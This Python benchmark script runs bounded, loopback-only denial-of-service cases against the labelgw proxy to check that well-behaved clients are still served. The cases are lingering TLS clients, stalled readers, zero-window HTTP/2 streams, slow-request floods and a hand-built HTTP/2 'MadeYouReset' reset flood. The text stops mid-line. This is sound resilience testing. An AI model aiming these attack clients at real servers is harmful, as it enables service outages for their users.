#!/usr/bin/env python3
"""Issue 14's resource-exhaustion cases against a real labelgw: are other clients still served?

One run, loopback only, every loop bounded in count and time, under two minutes with the defaults. It starts
five small backends (this script's `backend` role: asyncio HTTP/1.1 servers that count the requests reaching them,
`/download?bytes=N` streams N bytes, other paths answer after the backend's delay) and, per case, a fresh

    twistd -n --pidfile= labelgw --http tcp:P:interface=127.0.0.1 --https tcp:Q:interface=127.0.0.1
        --state-dir S --admin none --config cfg.yaml       (docker: false, idle_timeout 3 s, static services:)

    bench.localhost, other.localhost   fast backends: what the well-behaved client uses
    big.localhost                      /download?bytes=N, for the clients that stop reading
    slow.localhost                     answers after 20 s
    count.localhost                    answers after 2 s; its request count is case 7's figure

with its open-file limit lowered to 1024 (the soft limit a user gets from a default systemd or login session; this
script raises its own limit for the attackers). The cases:

    5   ~1000 TLS clients each send one request (3 in 4 with `Connection: close`, 1 in 4 keep-alive, left to the
        idle timeout), read the answer and the server's close_notify, and then neither send close_notify nor close
    6a  ~1030 HTTP/1.1 clients ask for a large response (8 MiB) and never read (receive buffer 4 KiB)
    6b  11 HTTP/2 connections (TLS, ALPN h2) with SETTINGS_INITIAL_WINDOW_SIZE=0, each opening up to 100 streams
        for a large response, never opening a window
    6c  ~1100 requests to slow.localhost, held while the well-behaved client uses bench and other
    7   "MadeYouReset" (CVE-2025-8671): one HTTP/2 connection opens streams to count.localhost and makes the server
        reset each one (DATA after END_STREAM, or a WINDOW_UPDATE overflowing the stream window), thousands of
        times in a few seconds

The attackers connect from 127.0.0.2 (--attacker-address), the well-behaved client from 127.0.0.1, so a limit per
client address can tell them apart. During each case a well-behaved client (the `probe` role, its own process) opens
a NEW connection per request,
25 requests/s, round robin over http://bench, http://other and https://bench, 2 s timeout, and the script samples
labelgw's RSS and open file descriptors from /proc every 0.2 s: during the attack, then after the attackers closed
everything and 3 s passed. It prints one line per case, then one table (case, the probe's success % and p99 ms,
labelgw RSS MiB peak/after, fds peak/after, verdict).

    .venv/bin/python bench/attack.py [--cases 5,6a,6b,6c,7] [--hold 6] [--tls-hold 10] [--json out.json|-]

Verdict PASS when: labelgw still runs; the probe got >= 99 % answers with p99 <= 1000 ms; RSS grew less than
256 MiB; 3 s after the attackers closed, labelgw holds at most 16 more fds than before, not counting its sockets to
the backends (idle pooled connections are no leak); and per case: 5: every answered client's socket closed by
labelgw before the end of the hold; 7: labelgw sent a GOAWAY against the flood. Everything it starts, it stops (also on Ctrl-C or
SIGTERM).
"""

from __future__ import annotations

import argparse
import asyncio
import json
import math
import os
import re
import resource
import shutil
import signal
import socket
import ssl
import struct
import sys
import tempfile
import time
from collections import Counter
from contextlib import contextmanager, redirect_stdout
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any, Iterator, Sequence

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))
sys.path.insert(0, str(HERE.parent))

# The launcher, the readiness poll and main's signal handling are the other bench scripts'; the response parser
# and the percentile are the load generator's.
from bench_proxy import HOST_HEADER, Managed, free_port, labelgw_server, run_bench, wait_ready, wait_until  # noqa: E402
from loadgen import ProtocolError, ResponseParser, percentile  # noqa: E402

CASES = ("5", "6a", "6b", "6c", "7")
CASE_TITLES = {
    "5": "TLS clients that never send close_notify",
    "6a": "HTTP/1.1 clients that stop reading",
    "6b": "HTTP/2 streams with a zero window",
    "6c": "slow requests to one service",
    "7": "HTTP/2 MadeYouReset",
}
# Services of labelgw's config: name -> the backend's delay in ms.
SERVICES = {"bench": 0, "other": 0, "big": 0, "slow": 20_000, "count": 2_000}
PROBE_SERVICES = ("bench", "other")

MIB = 1024 * 1024
SAMPLE_INTERVAL_S = 0.2
SETTLE_S = 3.0
RAMP_LIMIT_S = 12.0  # the most any case spends opening its attack connections
CONNECT_TIMEOUT_S = 4.0
PROBE_RATE = 25.0
PROBE_TIMEOUT_S = 2.0
PROBE_MAX_S = 60.0  # the probe stops by itself after this, whatever happens to this script
READY_TIMEOUT_S = 20.0

# Verdict thresholds.
MIN_SUCCESS_PCT = 99.0
MAX_P99_MS = 1000.0
MAX_RSS_GROWTH_MIB = 256.0
MAX_FDS_LEFT = 16
RELEASED_MARGIN_FDS = 32


def host(service: str) -> str:
    return HOST_HEADER if service == "bench" else f"{service}.localhost"


# -- labelgw's configuration (pure) -------------------------------------------------------------------------------


def labelgw_config(backend_ports: dict[str, int], idle_timeout: float) -> str:
    """The YAML labelgw runs with: no Docker, a short idle timeout, one static service per backend."""
    lines = ["docker: false", f"idle_timeout: {idle_timeout:g}", "services:"]
    for name, port in backend_ports.items():
        lines += [f"  {name}:", f"    hosts: [{host(name)}]", "    path: /", f'    backends: ["127.0.0.1:{port}"]']
    return "\n".join(lines) + "\n"


# -- the well-behaved client's records and their summary (pure) --------------------------------------------------


@dataclass(frozen=True, slots=True)
class ProbeRecord:
    at: float  # intended send time, seconds from the probe's start
    latency: float  # seconds from the intended time to the answer or the failure
    status: int  # 0 without an answer
    error: str  # "" or "connect", "timeout", "closed", "tls", "protocol"
    target: str  # "http:bench", "https:bench", ...

    @property
    def ok(self) -> bool:
        return not self.error and 200 <= self.status < 400


@dataclass(frozen=True)
class ProbeSummary:
    requests: int
    ok: int
    success_pct: float
    p50_ms: float
    p99_ms: float
    failures: dict[str, int]  # kind -> count, kind = error or "http-NNN"
    by_target: dict[str, float]  # target -> success %


def summarize_probe(records: Sequence[ProbeRecord]) -> ProbeSummary:
    """Success rate and latency over every request; failures count at the latency they failed with."""
    latencies = sorted(r.latency for r in records)
    ok = sum(1 for r in records if r.ok)
    kinds = Counter(r.error or f"http-{r.status}" for r in records if not r.ok)
    targets: dict[str, list[bool]] = {}
    for r in records:
        targets.setdefault(r.target, []).append(r.ok)
    return ProbeSummary(
        requests=len(records),
        ok=ok,
        success_pct=100.0 * ok / len(records) if records else math.nan,
        p50_ms=percentile(latencies, 0.50) * 1000,
        p99_ms=percentile(latencies, 0.99) * 1000,
        failures=dict(sorted(kinds.items())),
        by_target={t: 100.0 * sum(oks) / len(oks) for t, oks in sorted(targets.items())},
    )


# -- labelgw's resources over time (pure parts) -------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class Sample:
    at: float  # seconds from the case's start
    rss_mib: float
    fds: int
    clients: int = 0  # TCP sockets accepted on labelgw's listeners
    upstream: int = 0  # TCP sockets to the backends (in use or idle in the pool)

    @property
    def not_upstream(self) -> int:
        return self.fds - self.upstream


def tcp_table(text: str) -> dict[int, tuple[int, int, int]]:
    """/proc/net/tcp{,6} as inode -> (local port, remote port, state)."""
    sockets = {}
    for line in text.splitlines()[1:]:
        fields = line.split()
        if len(fields) < 10:
            continue
        local, remote = fields[1].rsplit(":", 1)[1], fields[2].rsplit(":", 1)[1]
        sockets[int(fields[9])] = (int(local, 16), int(remote, 16), int(fields[3], 16))
    return sockets


TCP_LISTEN = 0x0A


def classify_sockets(inodes: Sequence[int], table: dict[int, tuple[int, int, int]], listen_ports: Sequence[int],
                     backend_ports: Sequence[int]) -> tuple[int, int]:
    """How many of a process's sockets are its clients' (accepted on a listener) and how many go to a backend."""
    clients = upstream = 0
    for inode in inodes:
        found = table.get(inode)
        if found is None:
            continue
        local, remote, state = found
        if state == TCP_LISTEN:
            continue
        if local in listen_ports:
            clients += 1
        elif remote in backend_ports:
            upstream += 1
    return clients, upstream


def first_release(samples: Sequence[Sample], since: float, threshold: int) -> float | None:
    """When labelgw's client sockets first fell to `threshold` or below at or after `since` (seconds); None if
    never."""
    for sample in samples:
        if sample.at >= since and sample.clients <= threshold:
            return sample.at
    return None


def timeline(samples: Sequence[Sample], start: float, end: float, step: float) -> list[tuple[float, int]]:
    """(seconds from `start`, client sockets) of the first sample at or after start, start + step, ... <= end."""
    points: list[tuple[float, int]] = []
    mark = start
    for sample in samples:
        if sample.at > end + 1e-9:
            break
        if sample.at >= mark - 1e-9:
            points.append((round(sample.at - start, 1), sample.clients))
            while mark <= sample.at + 1e-9:
                mark += step
    return points


@dataclass
class CaseResult:
    case: str
    title: str
    probe: ProbeSummary | None
    baseline_fds: int
    baseline_rss_mib: float
    peak_fds: int
    peak_rss_mib: float
    after_fds: int | None  # None: labelgw was gone
    after_rss_mib: float | None
    alive: bool
    attack_s: float  # from the first attack connection to the end of the hold
    baseline_upstream: int = 0
    peak_clients: int = 0
    peak_upstream: int = 0
    after_upstream: int | None = None
    details: dict[str, Any] = field(default_factory=dict)
    samples: list[Sample] = field(default_factory=list)
    error: str = ""  # why the case could not be run (labelgw did not start, ...)
    verdict: str = ""
    reasons: list[str] = field(default_factory=list)


def failed_case(case: str, why: str) -> CaseResult:
    """A case that could not be run: no figures, and why."""
    return CaseResult(case, CASE_TITLES[case], None, 0, 0.0, 0, 0.0, None, None, False, 0.0, error=why)


def judge(result: CaseResult) -> tuple[str, list[str]]:
    """PASS or FAIL, and why it failed."""
    if result.error:
        return "ERROR", [result.error]
    reasons: list[str] = []
    if not result.alive:
        reasons.append("labelgw exited")
    probe = result.probe
    if probe is None or probe.requests == 0:
        reasons.append("no well-behaved requests measured")
    else:
        if not probe.success_pct >= MIN_SUCCESS_PCT:
            reasons.append(f"others served {probe.success_pct:.1f} % < {MIN_SUCCESS_PCT:g} %")
        if not probe.p99_ms <= MAX_P99_MS:
            reasons.append(f"others' p99 {probe.p99_ms:.0f} ms > {MAX_P99_MS:g} ms")
    growth = result.peak_rss_mib - result.baseline_rss_mib
    if growth > MAX_RSS_GROWTH_MIB:
        reasons.append(f"RSS grew {growth:.0f} MiB > {MAX_RSS_GROWTH_MIB:g} MiB")
    if result.after_fds is not None:
        # Upstream connections idle in labelgw's pool are not a leak; everything else should be gone.
        left = (result.after_fds - (result.after_upstream or 0)) - (result.baseline_fds - result.baseline_upstream)
        if left > MAX_FDS_LEFT:
            reasons.append(f"{left} more fds (not to backends) open after the attack than before")
    details = result.details
    if result.case == "5" and details.get("still_open_at_end", 0) > 0:
        reasons.append(f"{details['still_open_at_end']} sockets kept open without close_notify")
    if result.case == "7" and not goaway_answers_flood(details.get("goaway"), details.get("flood_s", 0.0)):
        reasons.append("no GOAWAY" if not details.get("goaway") else "no GOAWAY against the flood (only a graceful "
                       "NO_ERROR one after it, e.g. the idle timeout's)")
    if details.get("memory_guard"):
        reasons.append("attack stopped early: RSS above --rss-cap")
    return ("FAIL" if reasons else "PASS"), reasons


def goaway_answers_flood(goaway: dict[str, Any] | None, flood_s: float) -> bool:
    """Whether labelgw's GOAWAY answered the resets: an error code, or sent while the streams kept coming (within
    1 s of the last); a NO_ERROR GOAWAY long after the flood is the idle timeout closing a quiet connection."""
    if not goaway:
        return False
    return goaway.get("error") != "NO_ERROR" or goaway.get("after_s", math.inf) <= flood_s + 1.0


def _fmt(value: float | int | None, spec: str) -> str:
    if value is None or (isinstance(value, float) and math.isnan(value)):
        return "-"
    return format(value, spec)


def format_table(results: Sequence[CaseResult]) -> str:
    header = (f"{'case':<5} {'what':<42} {'others ok %':>11} {'p99 ms':>8} {'RSS MiB peak/after':>19} "
              f"{'fds peak/after':>15}  verdict")
    lines = [header, "-" * len(header)]
    for r in results:
        probe = r.probe
        ok = _fmt(probe.success_pct if probe else None, ".1f")
        p99 = _fmt(probe.p99_ms if probe else None, ".0f")
        rss = f"{_fmt(r.peak_rss_mib, '.0f')}/{_fmt(r.after_rss_mib, '.0f')}"
        fds = f"{r.peak_fds}/{_fmt(r.after_fds, 'd')}"
        lines.append(f"{r.case:<5} {r.title:<42} {ok:>11} {p99:>8} {rss:>19} {fds:>15}  {r.verdict}")
    return "\n".join(lines)


# -- HTTP/2 frames, written and read by hand for case 7 (pure) ---------------------------------------------------

H2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
H2_ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR", 5: "STREAM_CLOSED",
             7: "REFUSED_STREAM", 8: "CANCEL", 11: "ENHANCE_YOUR_CALM"}


def h2_frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream_id) + payload


def h2_frames(buffer: bytearray) -> list[tuple[int, int, int, bytes]]:
    """Take the complete frames (type, flags, stream, payload) off the front of `buffer`."""
    frames = []
    while len(buffer) >= 9:
        length = int.from_bytes(buffer[:3], "big")
        if len(buffer) < 9 + length:
            break
        kind, flags = buffer[3], buffer[4]
        stream_id = int.from_bytes(buffer[5:9], "big") & 0x7FFFFFFF
        frames.append((kind, flags, stream_id, bytes(buffer[9:9 + length])))
        del buffer[:9 + length]
    return frames


def reset_trigger(stream_id: int, index: int) -> bytes:
    """A frame the server must answer with RST_STREAM: DATA after END_STREAM (STREAM_CLOSED), or a WINDOW_UPDATE
    that takes the stream's send window past 2^31 - 1 (FLOW_CONTROL_ERROR); the two alternate."""
    if index % 2 == 0:
        return h2_frame(DATA, 0, stream_id, b"x")
    return h2_frame(WINDOW_UPDATE, 0, stream_id, struct.pack(">I", 0x7FFFFFFF))


# -- /proc --------------------------------------------------------------------------------------------------------


def proc_sample(pid: int, at: float, listen_ports: Sequence[int] = (), backend_ports: Sequence[int] = ()) -> Sample | None:
    try:
        with open(f"/proc/{pid}/status") as status:
            rss_kib = next(int(line.split()[1]) for line in status if line.startswith("VmRSS:"))
        fds = os.listdir(f"/proc/{pid}/fd")
        inodes = []
        for fd in fds:
            try:
                link = os.readlink(f"/proc/{pid}/fd/{fd}")
            except OSError:
                continue  # closed meanwhile
            if link.startswith("socket:["):
                inodes.append(int(link[8:-1]))
        table: dict[int, tuple[int, int, int]] = {}
        for name in ("tcp", "tcp6"):
            with open(f"/proc/{pid}/net/{name}") as handle:
                table.update(tcp_table(handle.read()))
    except (OSError, StopIteration, ValueError):
        return None
    clients, upstream = classify_sockets(inodes, table, listen_ports, backend_ports)
    return Sample(at, rss_kib / 1024, len(fds), clients, upstream)


def proc_nofile(pid: int) -> int | None:
    """A process's soft open-file limit as it runs (labelgw could raise its own), from /proc/PID/limits."""
    try:
        with open(f"/proc/{pid}/limits") as limits:
            for line in limits:
                if line.startswith("Max open files"):
                    soft = line.split()[3]
                    return None if soft == "unlimited" else int(soft)
    except (OSError, ValueError, IndexError):
        pass
    return None


@contextmanager
def nofile_soft_limit(limit: int) -> Iterator[None]:
    """Processes started inside get `limit` as their soft open-file limit (the hard limit stays)."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(limit, hard), hard))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))


def raise_own_nofile(wanted: int) -> int:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    target = wanted if hard == resource.RLIM_INFINITY else min(wanted, hard)
    if target > soft:
        resource.setrlimit(resource.RLIMIT_NOFILE, (target, hard))
    return resource.getrlimit(resource.RLIMIT_NOFILE)[0]


# -- the backend role ---------------------------------------------------------------------------------------------

DOWNLOAD_CHUNK = b"x" * (64 * 1024)


async def serve_backend(port: int, delay_ms: int, name: str) -> None:
    """HTTP/1.1 with keep-alive; counts every request but /__count, which answers the counts (and the peak of
    concurrent requests since the previous /__count) as JSON and closes."""
    counts = {"requests": 0, "active": 0, "max_active": 0, "abandoned": 0}

    async def answer(writer: asyncio.StreamWriter, status: str, body: bytes) -> None:
        writer.write(f"HTTP/1.1 {status}\r\nContent-Length: {len(body)}\r\nX-Whoami: {name}\r\n\r\n".encode() + body)
        await writer.drain()

    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            while True:
                head = await reader.readuntil(b"\r\n\r\n")
                target = head.split(b" ", 2)[1]
                length = re.search(rb"\r\ncontent-length:\s*(\d+)", head, re.IGNORECASE)
                if length:
                    await reader.readexactly(int(length.group(1)))
                if target == b"/__count":
                    await answer(writer, "200 OK", json.dumps(counts).encode())
                    counts["max_active"] = counts["active"]  # the next call reports the peak since this one
                    break
                counts["requests"] += 1
                counts["active"] += 1
                counts["max_active"] = max(counts["max_active"], counts["active"])
                try:
                    if delay_ms:
                        # Waiting, but watching the connection: a proxy that gives up on the request closes it, and
                        # then the request is no longer "active" here.
                        gone = asyncio.ensure_future(reader.read(1))
                        done, _ = await asyncio.wait([gone], timeout=delay_ms / 1000)
                        if not done:
                            gone.cancel()
                        else:
                            gone.exception()  # EOF or a reset, either way the proxy gave up: retrieved, ignored
                            counts["abandoned"] += 1
                            break
                    size = re.match(rb"/download\?bytes=(\d+)", target)
                    if size:
                        remaining = int(size.group(1))
                        writer.write(f"HTTP/1.1 200 OK\r\nContent-Length: {remaining}\r\nX-Whoami: {name}\r\n\r\n"
                                     .encode())
                        while remaining > 0:
                            chunk = DOWNLOAD_CHUNK[:remaining]
                            writer.write(chunk)
                            remaining -= len(chunk)
                            await writer.drain()
                    else:
                        await answer(writer, "200 OK", f"hello from {name}\n".encode())
                finally:
                    counts["active"] -= 1
        except (asyncio.IncompleteReadError, asyncio.LimitOverrunError, ConnectionError, IndexError, ValueError):
            pass
        finally:
            writer.transport.abort()

    server = await asyncio.start_server(handle, "127.0.0.1", port, backlog=4096)
    async with server:
        await server.serve_forever()


# -- the well-behaved client (the probe role) ---------------------------------------------------------------------


def insecure_tls(alpn: Sequence[str] = ("http/1.1",)) -> ssl.SSLContext:
    """Clients that do not check labelgw's certificate: the cases are about resources, not about trust."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(list(alpn))
    return context


async def probe_request(target: str, port: int, service: str, intended: float, origin: float,
                        context: ssl.SSLContext) -> ProbeRecord:
    scheme = target.split(":", 1)[0]
    name = host(service)
    status, error = 0, ""
    writer: asyncio.StreamWriter | None = None
    phase = "connect"
    try:
        async with asyncio.timeout(PROBE_TIMEOUT_S):
            reader, writer = await asyncio.open_connection(
                "127.0.0.1", port, ssl=context if scheme == "https" else None,
                server_hostname=name if scheme == "https" else None)
            phase = "answer"
            writer.write(f"GET / HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n".encode())
            parser = ResponseParser()
            while not status:
                data = await reader.read(65536)
                if not data:
                    final = parser.eof()
                    if final is None:
                        error = "closed"
                        break
                    status = final.status
                    break
                for response in parser.feed(data):
                    status = response.status
    except TimeoutError:
        error = "timeout" if phase == "answer" else "connect"
    except ssl.SSLError:
        error = "tls"
    except ProtocolError:
        error = "protocol"
    except OSError:
        error = phase if phase == "connect" else "closed"
    finished = time.monotonic()
    if writer is not None:
        # A well-behaved client says goodbye (close_notify over TLS, then FIN), but waits for no one.
        writer.close()
        try:
            async with asyncio.timeout(1.0):
                await writer.wait_closed()
        except (TimeoutError, OSError, ssl.SSLError):
            pass
        writer.transport.abort()
    return ProbeRecord(round(intended - origin, 4), round(finished - intended, 6), status, error, target)


async def run_probe(targets: Sequence[str], http_port: int, https_port: int, rate: float, max_s: float) -> list[ProbeRecord]:
    """Requests at fixed intervals (open loop: one that hangs does not delay the next) until SIGTERM or max_s."""
    loop = asyncio.get_running_loop()
    stop = asyncio.Event()
    for signum in (signal.SIGTERM, signal.SIGINT):
        loop.add_signal_handler(signum, stop.set)
    context = insecure_tls()
    origin = time.monotonic()
    tasks: list[asyncio.Task[ProbeRecord]] = []
    index = 0
    while not stop.is_set() and index < rate * max_s:
        intended = origin + index / rate
        delay = intended - time.monotonic()
        if delay > 0:
            try:
                await asyncio.wait_for(stop.wait(), delay)
                break
            except TimeoutError:
                pass
        target = targets[index % len(targets)]
        scheme, service = target.split(":", 1)
        port = https_port if scheme == "https" else http_port
        tasks.append(asyncio.create_task(probe_request(target, port, service, intended, origin, context)))
        index += 1
    return list(await asyncio.gather(*tasks))


# -- attackers ----------------------------------------------------------------------------------------------------


class Attack:
    """Opens its connections (bounded in count and time), holds them, closes them; reports what it saw."""

    def __init__(self, args: argparse.Namespace, http_port: int, https_port: int) -> None:
        self.args = args
        self.http_port = http_port
        self.https_port = https_port
        self.transports: list[asyncio.BaseTransport] = []
        self.connect_errors: Counter[str] = Counter()
        self.started = time.monotonic()
        # The attackers come from another loopback address than the well-behaved client, so that a per-address
        # limit in labelgw can tell them apart, as it would tell remote clients apart.
        self.source = (args.attacker_address, 0)

    async def open(self) -> None:
        raise NotImplementedError

    def close(self) -> None:
        for transport in self.transports:
            transport.abort()  # type: ignore[attr-defined]

    def details(self, hold_end: float) -> dict[str, Any]:
        return {"connect_errors": dict(self.connect_errors)}

    async def _many(self, count: int, one: Any) -> None:
        """`one(i)` for i < count, at most 64 at a time, until every one finished or RAMP_LIMIT_S passed."""
        gate = asyncio.Semaphore(64)
        deadline = time.monotonic() + RAMP_LIMIT_S

        async def gated(index: int) -> None:
            async with gate:
                if time.monotonic() >= deadline:
                    self.connect_errors["ramp-time-limit"] += 1
                    return
                try:
                    async with asyncio.timeout(CONNECT_TIMEOUT_S):
                        await one(index)
                except TimeoutError:
                    self.connect_errors["timeout"] += 1
                except ssl.SSLError:
                    self.connect_errors["tls"] += 1
                except Exception as error:  # refused, reset, a protocol error: counted, the others go on
                    self.connect_errors[type(error).__name__] += 1

        tasks = [asyncio.create_task(gated(i)) for i in range(count)]
        done, pending = await asyncio.wait(tasks, timeout=RAMP_LIMIT_S + CONNECT_TIMEOUT_S)
        for task in pending:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)


class _LingeringTLS(asyncio.Protocol):
    """TLS by hand over memory BIOs, so nothing is sent that was not asked for: after the answer (and the
    server's close_notify) this client sends no close_notify and no FIN; its socket stays open until the end."""

    def __init__(self, context: ssl.SSLContext, server_name: str, request: bytes) -> None:
        self.incoming, self.outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        self.tls = context.wrap_bio(self.incoming, self.outgoing, server_hostname=server_name)
        self.request = request
        self.parser = ResponseParser()
        self.handshaken = False
        self.answered: asyncio.Future[None] = asyncio.get_running_loop().create_future()
        self.answered_at: float | None = None
        self.close_notify_at: float | None = None
        self.server_fin_at: float | None = None
        self.transport: asyncio.Transport | None = None

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self.transport = transport  # type: ignore[assignment]
        self._step()

    def data_received(self, data: bytes) -> None:
        self.incoming.write(data)
        self._step()

    def eof_received(self) -> bool:
        self.server_fin_at = time.monotonic()
        return True  # keep our half open: this client never closes

    def connection_lost(self, exc: Exception | None) -> None:
        if self.server_fin_at is None:
            self.server_fin_at = time.monotonic()
        self._fail(ConnectionResetError("closed before the answer"))

    def _fail(self, error: Exception) -> None:
        if not self.answered.done():
            self.answered.set_exception(error)
            self.answered.exception()  # retrieved: nobody may be waiting any more

    def _step(self) -> None:
        try:
            if not self.handshaken:
                try:
                    self.tls.do_handshake()
                    self.handshaken = True
                    self.tls.write(self.request)
                except ssl.SSLWantReadError:
                    pass
            while self.handshaken and self.close_notify_at is None:
                try:
                    data = self.tls.read(65536)
                except ssl.SSLWantReadError:
                    break
                except ssl.SSLZeroReturnError:
                    data = b""
                if not data:  # the server's close_notify (read() returns b"" for it): noted, never answered
                    self.close_notify_at = time.monotonic()
                    break
                if self.parser.feed(data) and not self.answered.done():
                    self.answered_at = time.monotonic()
                    self.answered.set_result(None)
        except (ssl.SSLError, ProtocolError) as error:
            self._fail(error)
        out = self.outgoing.read()
        if out and self.transport is not None and not self.transport.is_closing():
            self.transport.write(out)


class LingeringTLS(Attack):
    """Case 5: TLS clients that never send close_notify nor close."""

    protocols: list[_LingeringTLS]

    async def open(self) -> None:
        loop = asyncio.get_running_loop()
        context = insecure_tls()
        self.protocols = []
        name = host("bench")

        async def one(index: int) -> None:
            # 1 in 4 keeps the connection alive and is left to labelgw's idle timeout.
            close = "Connection: close\r\n" if index % 4 != 3 else ""
            protocol = _LingeringTLS(context, name, f"GET / HTTP/1.1\r\nHost: {name}\r\n{close}\r\n".encode())
            transport, _ = await loop.create_connection(lambda: protocol, "127.0.0.1", self.https_port,
                                                        local_addr=self.source)
            self.transports.append(transport)
            self.protocols.append(protocol)
            await protocol.answered

        await self._many(self.args.tls_clients, one)

    def details(self, hold_end: float) -> dict[str, Any]:
        answered = [p for p in self.protocols if p.answered_at is not None]
        closed = sorted(p.server_fin_at - p.answered_at for p in answered  # type: ignore[operator]
                        if p.server_fin_at is not None and p.server_fin_at <= hold_end)
        return super().details(hold_end) | {
            "connections": len(self.protocols),
            "answered": len(answered),
            "close_notify_received": sum(1 for p in answered if p.close_notify_at is not None),
            "closed_by_labelgw": len(closed),
            "close_after_answer_p50_s": round(percentile(closed, 0.5), 2),
            "close_after_answer_max_s": round(closed[-1], 2) if closed else math.nan,
            "still_open_at_end": len(answered) - len(closed),
        }


# TCP states (include/net/tcp_states.h): what became of a socket we never read from.
TCP_ESTABLISHED = 1


def tcp_state(sock: socket.socket) -> int:
    try:
        return sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 8)[0]
    except OSError:
        return 0


class _Plain(asyncio.Protocol):
    """One HTTP/1.1 request; then either reads (and notes the answers) or never reads again."""

    def __init__(self, request: bytes, read: bool) -> None:
        self.request = request
        self.read = read
        self.parser = ResponseParser()
        self.statuses: list[int] = []
        self.closed_at: float | None = None

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        transport.write(self.request)  # type: ignore[attr-defined]
        if not self.read:
            transport.pause_reading()  # type: ignore[attr-defined]

    def data_received(self, data: bytes) -> None:
        try:
            self.statuses += [response.status for response in self.parser.feed(data)]
        except ProtocolError:
            self.statuses.append(-1)

    def eof_received(self) -> bool:
        self.closed_at = self.closed_at or time.monotonic()
        return False

    def connection_lost(self, exc: Exception | None) -> None:
        self.closed_at = self.closed_at or time.monotonic()


class PlainClients(Attack):
    """Case 6a (read=False: a large answer, never read, 4 KiB receive buffer) and 6c (read=True: a slow answer)."""

    read = True
    service = "slow"

    def path(self) -> str:
        return "/"

    def count(self) -> int:
        return int(self.args.slow_clients)

    async def open(self) -> None:
        loop = asyncio.get_running_loop()
        request = f"GET {self.path()} HTTP/1.1\r\nHost: {host(self.service)}\r\n\r\n".encode()
        self.protocols: list[_Plain] = []
        self.sockets: list[socket.socket] = []

        async def one(index: int) -> None:
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            try:
                if not self.read:
                    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                sock.setblocking(False)
                sock.bind(self.source)
                await loop.sock_connect(sock, ("127.0.0.1", self.http_port))
                protocol = _Plain(request, self.read)
                transport, _ = await loop.create_connection(lambda: protocol, sock=sock)
            except BaseException:
                sock.close()
                raise
            self.transports.append(transport)
            self.protocols.append(protocol)
            self.sockets.append(sock)

        await self._many(self.count(), one)

    def details(self, hold_end: float) -> dict[str, Any]:
        statuses = Counter(s for p in self.protocols for s in p.statuses)
        if self.read:
            closed = sum(1 for p in self.protocols if p.closed_at is not None and p.closed_at <= hold_end)
        else:  # not reading, asyncio sees no FIN or RST: ask the kernel
            closed = sum(1 for s in self.sockets if tcp_state(s) not in (TCP_ESTABLISHED, 0))
        return super().details(hold_end) | {
            "connections": len(self.protocols),
            "answers": {str(k): v for k, v in sorted(statuses.items())},
            "closed_by_labelgw": closed,
        }


class StalledReaders(PlainClients):
    read = False
    service = "big"

    def path(self) -> str:
        return f"/download?bytes={self.args.large_bytes}"

    def count(self) -> int:
        return int(self.args.stalled_clients)


class ZeroWindowH2(Attack):
    """Case 6b: HTTP/2 connections whose streams never get a flow-control window."""

    async def open(self) -> None:
        from h2.config import H2Configuration
        from h2.connection import H2Connection
        from h2.events import ConnectionTerminated, RemoteSettingsChanged, ResponseReceived, StreamReset
        from h2.exceptions import H2Error
        from h2.settings import SettingCodes, Settings

        self.streams = 0
        self.responses = 0
        self.resets: Counter[str] = Counter()
        self.goaways: list[str] = []
        self.readers: list[asyncio.Task[None]] = []
        name = host("big")
        context = insecure_tls(("h2",))

        async def pump(conn: H2Connection, reader: asyncio.StreamReader, writer: asyncio.StreamWriter,
                       settled: asyncio.Event) -> None:
            try:
                while data := await reader.read(65536):
                    for event in conn.receive_data(data):
                        if isinstance(event, RemoteSettingsChanged):
                            settled.set()
                        elif isinstance(event, ResponseReceived):
                            self.responses += 1
                        elif isinstance(event, StreamReset):
                            self.resets[H2_ERRORS.get(int(event.error_code), str(event.error_code))] += 1
                        elif isinstance(event, ConnectionTerminated):
                            self.goaways.append(H2_ERRORS.get(int(event.error_code), str(event.error_code)))
                    writer.write(conn.data_to_send())  # SETTINGS and PING acknowledgements; never a WINDOW_UPDATE
            except (OSError, H2Error, ssl.SSLError):
                pass
            finally:
                settled.set()

        async def one(index: int) -> None:
            reader, writer = await asyncio.open_connection("127.0.0.1", self.https_port, ssl=context,
                                                           local_addr=self.source,
                                                           server_hostname=name)
            self.transports.append(writer.transport)
            if writer.get_extra_info("ssl_object").selected_alpn_protocol() != "h2":
                raise ssl.SSLError("ALPN did not choose h2")
            conn = H2Connection(H2Configuration(client_side=True, header_encoding=None))
            conn.local_settings = Settings(client=True, initial_values={
                SettingCodes.INITIAL_WINDOW_SIZE: 0, SettingCodes.ENABLE_PUSH: 0})
            conn.initiate_connection()
            writer.write(conn.data_to_send())
            settled = asyncio.Event()
            self.readers.append(asyncio.create_task(pump(conn, reader, writer, settled)))
            await settled.wait()
            streams = min(self.args.h2_streams, conn.remote_settings.max_concurrent_streams)
            headers = [(b":method", b"GET"), (b":scheme", b"https"), (b":authority", name.encode()),
